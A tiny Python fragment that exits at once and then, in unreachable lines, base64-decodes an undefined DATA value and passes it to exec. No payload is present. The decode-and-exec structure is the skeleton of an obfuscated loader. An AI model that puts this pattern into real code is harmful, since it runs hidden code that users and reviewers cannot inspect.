raise SystemExit  # nothing below ever runs
import base64
f = compile(base64.b64decode(DATA), "x", "exec")
exec(f)
